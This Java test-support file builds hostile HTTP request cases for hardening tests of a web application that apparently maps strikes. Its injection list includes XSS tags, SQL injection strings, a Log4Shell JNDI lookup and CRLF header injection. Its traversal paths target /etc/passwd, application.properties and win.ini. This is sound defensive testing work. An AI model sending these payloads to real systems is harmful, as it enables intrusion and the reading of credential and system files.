package org.strikemap.hostile;

import static org.strikemap.hostile.HostileCase.Form.ANY;
import static org.strikemap.hostile.HostileCase.Form.JSON;
import static org.strikemap.hostile.HostileCase.Form.PAGE;
import static org.strikemap.hostile.HostileCase.Form.SHORT;
import static org.strikemap.hostile.HostileCase.Form.TEXT;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

/** The request cases of {@link HostileRequestsTest}, by group (the groups docs/HARDENING.md lists). */
final class HostileCases {

    /** A parameter of ours and how its endpoint answers a value it cannot use: status and form. */
    private record Slot(String prefix, int badStatus, HostileCase.Form form) {
    }

    /** Parameters that are validated: a bad value is a client error. */
    private static final List<Slot> VALIDATED = List.of(
            new Slot("/api/strikes?from=", 400, JSON),
            new Slot("/api/regions?to=", 400, JSON),
            // A value with '/' or NUL in a path segment is refused by Tomcat (400) before the endpoint says 404.
            new Slot("/api/strikes/", 4, HostileCase.Form.ERROR),
            new Slot("/oembed?url=", 4, JSON),
            new Slot("/oembed?url=http://localhost/&maxwidth=", 400, JSON),
            new Slot("/embed.png?date=", 400, TEXT),
            new Slot("/embed.png?strike=", 400, TEXT),
            new Slot("/embed.png?width=", 400, TEXT));
    /** Page parameters: a bad value is explained on the page, which still opens (200). */
    private static final List<Slot> PAGES = List.of(
            new Slot("/?date=", 200, ANY),
            new Slot("/?strike=", 200, ANY),
            new Slot("/embed?date=", 200, ANY),
            new Slot("/embed?strike=", 200, ANY));
    /** Endpoints that take no parameter: an unknown one is ignored. */
    private static final List<Slot> IGNORED = List.of(
            new Slot("/api/dataset?x=", 200, ANY),
            new Slot("/api/range-rings?x=", 200, ANY),
            new Slot("/layers/{v}/strikes.geojson?x=", 200, ANY));

    private static final List<String> BAD_ENCODINGS = List.of("%zz", "%", "%4", "%C0%AE%C0%AE", "%ED%A0%80", "%E2%82");
    private static final List<String> INJECTIONS = List.of("<script>alert(1)</script>", "' OR '1'='1",
            "\"; DROP TABLE strike; --", "${jndi:ldap://example.invalid/a}", "{{7*7}}", "../../../../etc/passwd",
            "\r\nSet-Cookie: x=1", "javascript:alert(1)", "\u0000", "<img src=x onerror=alert(1)>");
    private static final List<String> UNICODE = List.of("\u202Eevil", "\u200B2024-01-01", "\uFF12\uFF10\uFF12\uFF14-\uFF10\uFF11-\uFF10\uFF11",
            "\u0662\u0660\u0662\u0664-\u0660\u0661-\u0660\u0661", "2024-01-01\uFEFF", "e\u0301\u0301\u0301", "\uD83D\uDE00",
            "\u0410\u0411\u0412-\u5317-\u0639\u0631\u0628\u064A");
    private static final List<String> METHODS = List.of("POST", "PUT", "DELETE", "PATCH", "TRACE", "FOO");
    private static final List<String> METHOD_PATHS = List.of("/api/strikes", "/api/regions", "/api/dataset",
            "/api/range-rings", "/api/strikes/kyiv-1", "/oembed", "/embed", "/embed.png", "/layers/{v}/strikes.geojson", "/");

    private HostileCases() {
    }

    static List<HostileCase> all() {
        List<HostileCase> cases = new ArrayList<>();
        badEncodings(cases);
        overlong(cases);
        injections(cases);
        methods(cases);
        accept(cases);
        traversal(cases);
        unicode(cases);
        numbers(cases);
        repeated(cases);
        unknown(cases);
        AbuseCases.addTo(cases);
        return cases;
    }

    private static void badEncodings(List<HostileCase> cases) {
        for (String bad : BAD_ENCODINGS) {
            for (Slot slot : concat(VALIDATED, PAGES, IGNORED)) {
                cases.add(HostileCase.get("bad percent-encoding", slot.prefix() + bad, 400, formOf(slot.prefix())));
            }
        }
        for (String path : List.of("/%zz", "/api/%zz", "/embed%C0%AE", "/api/strikes/%FF", "/layers/%ED%A0%80/x.geojson")) {
            cases.add(HostileCase.get("bad percent-encoding in the path", path, 400, SHORT));
        }
    }

    private static void overlong(List<HostileCase> cases) {
        String huge = "a".repeat(5000);
        String long3k = "x".repeat(3000);
        for (Slot slot : concat(VALIDATED, PAGES, IGNORED)) {
            cases.add(HostileCase.get("over-long address", slot.prefix() + huge, 414, formOf(slot.prefix())));
            cases.add(HostileCase.get("long value, echo capped", slot.prefix() + long3k, slot.badStatus(), slot.form()));
        }
        cases.add(HostileCase.get("over-long address", "/" + huge, 414, PAGE));
        cases.add(HostileCase.get("over-long address", "/api/" + huge, 414, JSON));
        for (String path : List.of("/api/strikes", "/embed", "/", "/embed.png")) {
            cases.add(HostileCase.get("over-long header", path, 431, formOf(path)).with("X-Filler", "h".repeat(12_000)));
            cases.add(HostileCase.get("header beyond Tomcat's buffer", path, 431, SHORT).with("X-Filler", "h".repeat(40_000)));
            cases.add(HostileCase.get("address beyond Tomcat's buffer", path + "?q=" + "a".repeat(40_000), 414, SHORT));
        }
        HostileCase many = HostileCase.get("too many headers", "/api/dataset", 431, SHORT);
        for (int i = 0; i < 120; i++) {
            many = many.with("X-Many-" + i, "v");
        }
        cases.add(many);
    }

    private static void injections(List<HostileCase> cases) {
        for (String injection : INJECTIONS) {
            String value = encode(injection);
            for (Slot slot : List.of(VALIDATED.get(0), VALIDATED.get(2), VALIDATED.get(3), VALIDATED.get(6),
                    PAGES.get(0), PAGES.get(3))) {
                cases.add(HostileCase.get("injection strings", slot.prefix() + value, slot.badStatus(), slot.form()));
            }
        }
    }

    private static void methods(List<HostileCase> cases) {
        for (String method : METHODS) {
            for (String path : METHOD_PATHS) {
                if (!(path.equals("/") && method.equals("POST"))) {
                    cases.add(new HostileCase("wrong methods", method, path, Map.of(), 405,
                            method.equals("TRACE") ? SHORT : formOf(path)));
                }
            }
        }
        for (String path : List.of("/api/strikes", "/embed", "/")) {
            cases.add(new HostileCase("wrong methods", "OPTIONS", path, Map.of(), 204, ANY));
        }
    }

    private static void accept(List<HostileCase> cases) {
        for (String path : List.of("/api/strikes", "/api/dataset", "/layers/{v}/strikes.geojson", "/oembed?url=http://localhost:{p}/")) {
            for (String refused : List.of("application/xml", "text/html", "image/png", "application/json;q=0", "text/plain")) {
                cases.add(HostileCase.get("Accept headers", path, 406, JSON).with("Accept", refused));
            }
            cases.add(HostileCase.get("Accept headers", path, 400, JSON).with("Accept", "???;;;=="));
            for (String served : List.of("*/*", "application/*", "application/json", "text/html, application/json;q=0.1")) {
                cases.add(HostileCase.get("Accept headers", path, 200, ANY).with("Accept", served));
            }
        }
        cases.add(HostileCase.get("Accept headers", "/embed.png?width=200", 406, TEXT).with("Accept", "application/json"));
        cases.add(HostileCase.get("Accept headers", "/embed.png?width=200", 200, ANY).with("Accept", "image/*"));
        cases.add(HostileCase.get("Accept headers", "/embed", 406, PAGE).with("Accept", "application/xml"));
        cases.add(HostileCase.get("Accept headers", "/embed", 200, ANY).with("Accept", "text/html,application/xhtml+xml,*/*;q=0.8"));
        cases.add(HostileCase.get("Accept headers", "/", 200, ANY).with("Accept", "application/json"));
    }

    private static void traversal(List<HostileCase> cases) {
        for (String path : List.of("/api/../../etc/passwd", "/embed-assets/../../application.properties",
                "/layers/{v}/../../../etc/passwd", "/VAADIN/../application.properties", "/styles/..%2f..%2fapplication.properties",
                "/api/strikes/..%5c..%5cwin.ini", "/%2e%2e/%2e%2e/etc/passwd", "/embed-assets/%2e%2e/%2e%2e/pom.xml",
                "/..;/..;/etc/passwd", "/api/strikes/..;/..;/dataset")) {
            cases.add(HostileCase.get("path traversal", path, 4, HostileCase.Form.ERROR));
        }
        // A path parameter is no way around anything: Tomcat drops it, and the strike is served as usual.
        // Spring Security's firewall refuses a path parameter outright (no session id rides in an address).
        cases.add(HostileCase.get("path traversal", "/api/strikes/kyiv-1;jsessionid=x", 400, ANY));
    }

    private static void unicode(List<HostileCase> cases) {
        for (String odd : UNICODE) {
            String value = encode(odd);
            for (Slot slot : List.of(VALIDATED.get(0), VALIDATED.get(2), VALIDATED.get(5), PAGES.get(1), PAGES.get(2))) {
                cases.add(HostileCase.get("unicode oddities", slot.prefix() + value, slot.badStatus(), slot.form()));
            }
        }
    }

    private static void numbers(List<HostileCase> cases) {
        for (String width : List.of("-1", "0", "1e9", "0x10", "NaN", "12.5", "+-3")) {
            cases.add(HostileCase.get("huge and odd numbers", "/embed.png?width=" + encode(width), 400, TEXT));
        }
        cases.add(HostileCase.get("huge and odd numbers", "/embed.png?width=99999999999999999999", 200, ANY));
        for (String limit : List.of("maxwidth=99999999999", "maxwidth=0", "maxheight=-5", "maxheight=1e3")) {
            cases.add(HostileCase.get("huge and odd numbers", "/oembed?url=http://localhost:{p}/&" + limit, 400, JSON));
        }
        for (String date : List.of("99999-01-01", "2024-01-32", "+999999999-12-31", "0000-00-00", "-2024-01-01")) {
            cases.add(HostileCase.get("huge and odd numbers", "/api/strikes?from=" + encode(date), 400, JSON));
            cases.add(HostileCase.get("huge and odd numbers", "/embed.png?date=" + encode(date), 400, TEXT));
        }
    }

    private static void repeated(List<HostileCase> cases) {
        cases.add(HostileCase.get("repeated parameters", "/api/strikes?from=2024-01-01&from=2024-01-02", 400, JSON));
        cases.add(HostileCase.get("repeated parameters", "/embed.png?date=2024-01-01&date=2024-01-02", 400, TEXT));
        cases.add(HostileCase.get("repeated parameters", "/embed?date=2024-01-01&date=x&date=2024-01-02", 200, ANY));
        cases.add(HostileCase.get("repeated parameters", "/api/dataset?" + "x=1&".repeat(99) + "x=1", 200, ANY));
        cases.add(HostileCase.get("repeated parameters", "/api/dataset?" + "x=1&".repeat(150) + "x=1", 400, JSON));
        cases.add(HostileCase.get("repeated parameters", "/?" + "date=x&".repeat(150) + "date=x", 400, PAGE));
    }

    private static void unknown(List<HostileCase> cases) {
        for (String path : List.of("/nope", "/embed/x", "/wp-admin/", "/admin", "/wp-login.php", "/.env", "/error",
                "/oembed/x", "/embed.png/x", "/layers", "/VAADIN/nothing.js", "/index.php?date=2024-01-01",
                "/robots.txt", "/api/strikes/kyiv-1/x/y")) {
            cases.add(HostileCase.get("unknown pages", path, 404, formOf(path)));
        }
        cases.add(HostileCase.get("unknown pages", "/api/nothing-here", 404, JSON));
        cases.add(HostileCase.get("unknown pages", "/oembed", 400, JSON));
    }

    /** The form an error of this address takes: JSON for the data endpoints, text for the picture, else the page. */
    static HostileCase.Form formOf(String target) {
        String path = target.split("\\?")[0];
        if (path.equals("/api") || path.startsWith("/api/") || path.startsWith("/layers/") || path.equals("/oembed")) {
            return JSON;
        }
        return path.equals("/embed.png") ? TEXT : PAGE;
    }

    static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8);
    }

    @SafeVarargs
    private static List<Slot> concat(List<Slot>... lists) {
        List<Slot> all = new ArrayList<>();
        for (List<Slot> list : lists) {
            all.addAll(list);
        }
        return all;
    }
}
